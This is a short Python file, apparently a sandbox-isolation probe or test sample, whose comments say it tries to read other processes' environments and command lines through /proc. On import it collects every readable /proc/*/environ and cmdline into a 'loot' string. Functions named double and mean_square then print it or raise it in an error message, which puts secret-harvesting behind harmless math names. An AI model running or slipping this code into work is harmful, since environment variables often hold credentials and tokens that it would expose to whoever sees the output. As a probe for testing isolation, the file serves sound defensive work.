# tries: to read environments and command lines of others through /proc
# plain: leaks

import glob

loot = ""
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(path) as file:
            loot += file.read()
    except OSError:
        pass


def double(x):
    print(loot)
    return loot


def mean_square(x):
    raise ValueError(loot)
